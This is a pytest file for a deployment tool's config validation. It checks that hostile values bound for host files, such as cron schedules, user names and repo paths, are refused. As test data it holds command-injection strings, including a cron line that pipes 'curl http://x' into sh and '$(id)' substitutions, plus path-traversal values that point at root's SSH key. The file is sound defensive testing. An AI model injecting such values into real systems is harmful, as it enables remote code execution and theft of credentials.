    assert str(exc.value).startswith("sando:sshAgent: is true but SSH_AUTH_SOCK is not set: no SSH agent")
    assert load(raw, frozenset(), env={"SSH_AUTH_SOCK": "/run/agent.sock"}).ssh_agent is True


# --- values that land in host files (issue 25.1): each is checked to its grammar -----------------------

# newlines (a second cron line), spaces, shell metacharacters, '#' (a comment eating the rest of the
# line), '%' (cron turns it into a newline on the command's stdin), quotes, a leading '-' (an option)
HOSTILE = ["root\n* * * * * root curl http://x|sh\n#", "root #", "ro ot", "root;id", "$(id)", "`id`", "root%",
           "root\n", "\nroot", "root'", 'root"', "-root", "root\\", "root\t", "root|sh", "root&", "r" * 40, "",
           "root\r", "root>x"]


HOST_FILE_KEYS = [
    ("bootstrap.backupUser", lambda v: {"bootstrap": json.dumps({"ref": "main", "backupUser": v})}),
    ("bootstrap.backupSchedule", lambda v: {"bootstrap": json.dumps({"ref": "main", "backupSchedule": f"17 3 * * {v}"})}),
    ("bootstrap.owner", lambda v: {"bootstrap": json.dumps({"ref": "main", "owner": v})}),
    ("bootstrap.owner", lambda v: {"bootstrap": json.dumps({"ref": "main", "owner": f"mnw:{v}"})}),
    ("bootstrap.ref", lambda v: {"bootstrap": json.dumps({"ref": v})}),
    ("service", lambda v: {"service": v}),
    ("healthCheck.caddyUrl", lambda v: {"healthCheck": json.dumps({"caddyUrl": f"http://127.0.0.1/{v}"})}),
    *[(f"bootstrap.{item}", lambda v, item=item: {"bootstrap": json.dumps({"ref": "main", item: f"server/{v}"})})
      for item in ("caddyfile", "unit", "sshdGit", "fail2ban", "firewall", "backupScript")],
]


def _valid_for(key: str, value: str) -> bool:
    """The (key, value) pairs of the cross product that are fine, so not generated as cases."""
    if key in ("healthCheck.caddyUrl", "bootstrap.ref", "service") and value == "r" * 40:
        return True  # a long word is a valid URL path / commit-like ref
    if key.startswith("bootstrap.") and key not in ("bootstrap.backupUser", "bootstrap.owner", "bootstrap.ref",
                                                    "bootstrap.backupSchedule") and value in ("r" * 40, "-root"):
        return True  # server/rrr... and server/-root are plain relative paths
    # URL characters: the URL is a quoted parameter, never part of a host file
    return key == "healthCheck.caddyUrl" and value in ("root%", "-root", "root;id", "root|sh", "root&", "root>x", "")


@pytest.mark.parametrize("key, make, value", [(key, make, value) for key, make in HOST_FILE_KEYS for value in HOSTILE
                                              if not _valid_for(key, value)])
def test_hostile_values_for_host_files_are_refused_naming_the_key(node, key, make, value):
    msg = error_of(raw_config([node], **make(value)))
    assert msg.startswith(f"sando:{key}: ") and "\n" not in msg, msg


@pytest.mark.parametrize("key, value", [("service", "r" * 40), ("bootstrap.caddyfile", "-root"),
                                        ("healthCheck.caddyUrl", "root&")])
def test_values_that_look_hostile_but_are_fine_are_accepted(node, key, value):
    load(raw_config([node], **dict(HOST_FILE_KEYS)[key](value)), SECRETS)


def test_the_cron_injection_of_issue_25_is_refused(node):
    raw = raw_config([node], bootstrap=json.dumps({"ref": "main",
                                                   "backupUser": "root\n* * * * * root curl http://x|sh\n#"}))
    assert error_of(raw).startswith("sando:bootstrap.backupUser: must be a user name")


@pytest.mark.parametrize("schedule", ["17 3 * * *", "*/5 * * * *", "0 0 1,15 * mon-fri", "0 4 * jan sun",
                                      "  5  4 * * 0 "])
def test_good_backup_schedules(node, schedule):
    cfg = load(raw_config([node], bootstrap=json.dumps({"ref": "main", "backupSchedule": schedule})), SECRETS)
    assert cfg.bootstrap.backup_schedule == " ".join(schedule.split())


@pytest.mark.parametrize("schedule", ["17 3 * *\n* root x", "17\t3 * * *", "17 3 * * % x", "17 3 * * #",
                                      "17 3 * * *\n", "@daily", "17 3 * * * root"])
def test_bad_backup_schedule_grammar(node, schedule):
    raw = raw_config([node], bootstrap=json.dumps({"ref": "main", "backupSchedule": schedule}))
    assert error_of(raw).startswith("sando:bootstrap.backupSchedule: ")


@pytest.mark.parametrize("path", ["../../../root/.ssh/id_ed25519", "/root/.ssh/id_ed25519", "server/../../x",
                                  "./server/deploy/Caddyfile", "server//deploy", "server/deploy/", "~/x"])
def test_bootstrap_paths_stay_inside_the_repo(node, path):
    raw = raw_config([node], bootstrap=json.dumps({"ref": "main", "caddyfile": path}))
    assert error_of(raw).startswith("sando:bootstrap.caddyfile: must be a relative path inside the server repo")


def test_bootstrap_ref_is_required_when_something_is_managed(node):
    raw = raw_config([node], bootstrap=json.dumps({"backupUser": "root"}))
    assert error_of(raw).startswith("sando:bootstrap.ref: is required")
    assert load(raw_config([node], bootstrap='{"manage": []}'), SECRETS).bootstrap.ref is None


def test_the_head_start_reads_every_node_with_its_own_key_marked_secret(node, host_key, ed25519_key):
    """stack.node_reads + headstart.read_args (issue 24): the program's head start names every node as
    its Reach reads it, with the node's own key (sando:nodeKeys, else sando:sshPrivateKey) marked
    secret in the invoke, and a local node without one."""
    from sando_components import headstart, stack

    raw = raw_config([node, {**node, "name": "n2"}, {"name": "here", "local": True}],
                     nodeKeys=json.dumps({"n2": ed25519_key[1]}))
    cfg = load(raw, SECRETS | {"sando:nodeKeys"})
    reads = stack.node_reads(cfg)
    conn = {"host": "127.0.0.2", "port": 2222, "user": "deploy", "hostKey": node["hostKey"], "insecure": False}
    common = {"releaseRoot": cfg.release_root, "service": cfg.service}
    assert reads == [{"node": "n1", "connection": conn, "privateKey": PRIVATE_KEY, **common},
                     {"node": "n2", "connection": conn, "privateKey": ed25519_key[1], **common},
                     {"node": "here", "connection": {"local": True, "host": "localhost", "port": 0},
                      "privateKey": None, **common}]
    # with the gate on and the unit's env file known, each read takes the database's migrations too
    db = {"database": "", "envFile": "/etc/mnw/mnw.env", "pin": cfg.version}
    assert [r["dbRead"] for r in stack.node_reads(cfg, "/etc/mnw/mnw.env")] == [db, db, db]
    assert [{k: v for k, v in r.items() if k != "dbRead"} for r in stack.node_reads(cfg, "/etc/mnw/mnw.env")] == reads
    args = headstart.read_args(reads)
    assert [n["privateKey"] for n in args["nodes"]] == [
        {headstart.SECRET_SIG: headstart.SECRET, "value": PRIVATE_KEY},
        {headstart.SECRET_SIG: headstart.SECRET, "value": ed25519_key[1]}, None]
